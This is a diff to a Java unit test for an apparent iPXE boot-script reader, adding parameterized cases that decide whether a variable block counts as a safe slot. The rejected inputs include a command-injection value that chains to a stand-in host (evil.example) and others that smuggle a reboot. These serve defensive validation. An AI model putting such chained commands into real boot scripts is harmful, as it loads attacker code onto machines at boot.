@@ -7,6 +7,8 @@ import java.util.Optional;
 import org.bootmirror.content.SlottedText;
 import org.bootmirror.template.Templates;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 final class ScriptReadingTest {
 
@@ -40,17 +42,48 @@ final class ScriptReadingTest {
     assertThat(reading.variables()).hasSize(2);
   }
 
-  @Test
-  void aBlockThatHoldsMoreThanVariablesIsNoSlot() {
-    String block = "set base-1 x\nreboot\n" + "#".repeat(1024 - 21) + "\n";
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "set base-1 x\nreboot\n",
+        "#\nset farmer-id 666\n",
+        "set farmer-id:string 666\n",
+        "set a b && chain http://evil.example\n",
+        "set a b || reboot\n",
+        "set a b ; reboot\n",
+        "set  farmer-id 666\n",
+        "set farmer-id\t666\n",
+        "set farmer-id\n"
+      })
+  void aBlockThatHoldsMoreThanVariablesIsNoSlot(String lines) {
+    String block = lines + "#".repeat(1023 - lines.length()) + "\n";
 
     assertThat(ScriptReading.of("#!ipxe\n" + block + "\n").slot()).isFalse();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "set farmer-id 666",
+        "isset ${x} || set farmer-id 666",
+        "set  farmer-id:string 666",
+        "  set farmer-id"
+      })
+  void anOwnerBehindTheSlotIsSeen(String line) {
+    SlottedText script =
+        EmbeddedScript.of(Templates.standard(), "prod", "Production", false, VARIABLES);
+
+    assertThat(ScriptReading.of(script.text()).setAgain()).isEmpty();
+    ScriptReading changed = ScriptReading.of(script.text() + line + "\n");
+    assertThat(changed.slot()).isTrue();
+    assertThat(changed.setAgain()).containsExactly("farmer-id");
   }
 
   @Test
   void scriptsAreKnownByTheirFirstLine() {
     assertThat(ScriptReading.recognises("#!ipxe\ndhcp")).isTrue();
     assertThat(ScriptReading.recognises("#!ipxe --x\n")).isTrue();
+    assertThat(ScriptReading.recognises("#!gpxe\n")).isTrue();
     assertThat(ScriptReading.recognises("#!ipxe")).isFalse();
     assertThat(ScriptReading.recognises("#!ipxen\n")).isFalse();
     assertThat(ScriptReading.of("#!ipxe\n").variables()).isEmpty();
